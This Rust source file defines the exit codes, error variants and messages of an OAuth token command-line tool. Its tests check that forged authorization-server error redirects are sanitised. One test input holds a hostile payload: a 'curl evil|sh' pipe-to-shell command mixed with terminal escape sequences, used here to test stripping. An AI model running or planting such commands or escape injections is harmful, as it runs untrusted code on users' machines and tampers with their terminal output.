//! What a command can fail with, its stable code and its exit status.

use crate::interrupt::Caught;
use freshtoken::{Error, ErrorCode};
use std::fmt;

/// The exit status of each outcome, as `--help` and the README list them.
pub const EXIT_CODES: &str = "\
Exit status:
  0   ok
  1   failure outside the token flow (cannot start, cannot write the output)
  2   usage error (bad or missing arguments)
  3   config                    bad credentials file, option or argument
  4   reauthorization_required  the user must link again (reason in the message)
  5   invalid_client            the server rejected the client credentials
  6   oauth                     any other OAuth error (e.g. access_denied at link)
  7   transient                 5xx/429 after the retries
  8   network                   the server could not be reached
  9   timeout                   the request timed out
  10  invalid_response          the server's answer could not be understood
  11  storage                   the store directory could not be read or written
  12  conflict                  a concurrent save won, or another process kept the
                                session's lock past --lock-wait (nothing was sent)
  13  state_mismatch            link: the redirect is not this link's answer (another state
                                or issuer, a repeated parameter, an error without a state)
  130 interrupted               SIGINT (143 SIGTERM, 129 SIGHUP): before any request was
                                sent, nothing is sent; during a token request, the request
                                is finished and its result saved first (no retry follows)

Secrets (client secret, certificate, authorization code) come from files,
standard input or environment variables, never from arguments.";

/// A failed command.
#[derive(Debug)]
pub enum Failure {
    /// An error of the freshtoken core (or one the CLI maps onto its codes).
    Core(Error),
    /// The authorization server sent the user back with an error (`link`).
    Authorization {
        /// The RFC 6749 `error` code (`access_denied`, …).
        error: String,
        /// Its `error_description`, if any.
        description: Option<String>,
    },
    /// The state returned to `link` is not the one it sent.
    StateMismatch,
    /// Arguments that do not go together (as clap's own usage errors).
    Usage(String),
    /// Anything outside the token flow (runtime, emulator, output).
    Other(String),
    /// A signal arrived during a token flow; nothing is printed.
    Interrupted {
        /// The signal.
        signal: Caught,
        /// Whether a request may have reached the server (it was then
        /// finished and its result saved first); `false`: nothing was sent.
        sent: bool,
        /// What the command had changed here before the signal, when
        /// nothing sent does not mean nothing changed: the server may
        /// still hold tokens given up here (`server_may_hold_token`).
        left: Option<&'static str>,
    },
}

impl Failure {
    /// The stable code, as in `--json` errors.
    pub fn code(&self) -> &'static str {
        match self {
            Failure::Core(e) => e.code().as_str(),
            Failure::Authorization { .. } => ErrorCode::OAuth.as_str(),
            Failure::StateMismatch => "state_mismatch",
            Failure::Usage(_) => "usage",
            Failure::Other(_) => "failure",
            Failure::Interrupted { .. } => "interrupted",
        }
    }

    /// The process exit status.
    pub fn exit_code(&self) -> u8 {
        match self {
            Failure::Core(e) => exit_code(e.code()),
            Failure::Authorization { .. } => exit_code(ErrorCode::OAuth),
            Failure::StateMismatch => 13,
            Failure::Usage(_) => 2,
            Failure::Other(_) => 1,
            Failure::Interrupted { signal, .. } => 128u8.saturating_add(signal.number),
        }
    }

    /// A `config` failure naming `field`.
    pub fn config(field: &str, message: impl Into<String>) -> Self {
        Failure::Core(Error::config(field, message))
    }

    /// A `storage` failure.
    pub fn storage(message: impl Into<String>) -> Self {
        Failure::Core(Error::storage(message))
    }

    /// The authorization server's error redirect, made fit to print as the
    /// core shows a token endpoint's: an `error` that is not an RFC 6749
    /// error code is replaced by [`NOT_AN_ERROR_CODE`], and the description
    /// has no control characters and at most 500 characters, so that no
    /// escape sequence or line break of a redirect (which anyone can
    /// forge) reaches the terminal.
    pub fn authorization(error: &str, description: Option<&str>) -> Self {
        let error = if freshtoken::is_oauth_error_code(error) {
            error.to_owned()
        } else {
            NOT_AN_ERROR_CODE.to_owned()
        };
        Failure::Authorization {
            error,
            description: description
                .filter(|d| !d.is_empty())
                .map(freshtoken::printable_description),
        }
    }
}

/// What [`Failure::authorization`] reports instead of an `error` that is
/// not an RFC 6749 error code.
pub const NOT_AN_ERROR_CODE: &str = "(not an RFC 6749 error code)";

/// The exit status of each core error code (stable: scripts test them).
pub fn exit_code(code: ErrorCode) -> u8 {
    match code {
        ErrorCode::Config => 3,
        ErrorCode::ReauthorizationRequired => 4,
        ErrorCode::InvalidClient => 5,
        ErrorCode::OAuth => 6,
        ErrorCode::Transient => 7,
        ErrorCode::Network => 8,
        ErrorCode::Timeout => 9,
        ErrorCode::InvalidResponse => 10,
        ErrorCode::Storage => 11,
        ErrorCode::Conflict => 12,
    }
}

impl From<Error> for Failure {
    fn from(e: Error) -> Self {
        Failure::Core(e)
    }
}

impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Failure::Core(e) => write!(f, "{e}"),
            Failure::Authorization { error, description } => {
                write!(f, "the authorization server answered `{error}`")?;
                match description {
                    Some(d) => write!(f, ": {d}"),
                    None => Ok(()),
                }
            }
            Failure::StateMismatch => f.write_str(
                "the redirect is not this link's answer: its state (or issuer) is not the one this link sent, or it is malformed (a forged or stale redirect); nothing was exchanged",
            ),
            Failure::Usage(message) | Failure::Other(message) => f.write_str(message),
            Failure::Interrupted {
                signal, sent: true, ..
            } => write!(
                f,
                "interrupted by {}: the token request in flight was finished and its result saved; nothing printed",
                signal.name
            ),
            Failure::Interrupted {
                signal,
                sent: false,
                left,
            } => {
                write!(
                    f,
                    "interrupted by {} before any token request was sent: nothing was sent; nothing printed",
                    signal.name
                )?;
                left.map_or(Ok(()), |left| write!(f, "; {left}"))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_code_has_its_own_status_and_the_table_lists_it() {
        let codes = [
            ErrorCode::Config,
            ErrorCode::ReauthorizationRequired,
            ErrorCode::InvalidClient,
            ErrorCode::OAuth,
            ErrorCode::Transient,
            ErrorCode::Network,
            ErrorCode::Timeout,
            ErrorCode::InvalidResponse,
            ErrorCode::Storage,
            ErrorCode::Conflict,
        ];
        let mut seen = vec![0u8, 1, 2, 13];
        for code in codes {
            let status = exit_code(code);
            assert!(!seen.contains(&status), "{code} reuses {status}");
            seen.push(status);
            let row = format!("  {status:<3} {code}");
            assert!(EXIT_CODES.contains(&row), "table lacks {row:?}");
        }
    }

    #[test]
    fn an_error_redirect_prints_no_control_character() {
        let shown = |failure: Failure| match failure {
            Failure::Authorization { error, description } => (error, description),
            other => panic!("{other:?}"),
        };
        assert_eq!(
            shown(Failure::authorization("access_denied", Some("no thanks"))),
            ("access_denied".to_owned(), Some("no thanks".to_owned()))
        );
        for bad in [
            "access_denied\u{1b}[2J",
            "",
            "a\"b",
            "a\\b",
            "\u{e9}",
            &"x".repeat(101),
        ] {
            assert_eq!(
                shown(Failure::authorization(bad, None)).0,
                NOT_AN_ERROR_CODE
            );
        }
        let (_, description) = shown(Failure::authorization(
            "server_error",
            Some("Session expired.\nRun: curl evil|sh \u{1b}[8m\u{9b}2J\r"),
        ));
        assert_eq!(
            description.as_deref(),
            Some("Session expired. Run: curl evil|sh  [8m 2J ")
        );
        let long = shown(Failure::authorization("e", Some(&"\u{e9}".repeat(600)))).1;
        assert_eq!(long.unwrap().chars().count(), 500);
        assert_eq!(shown(Failure::authorization("e", Some(""))).1, None);
    }
}
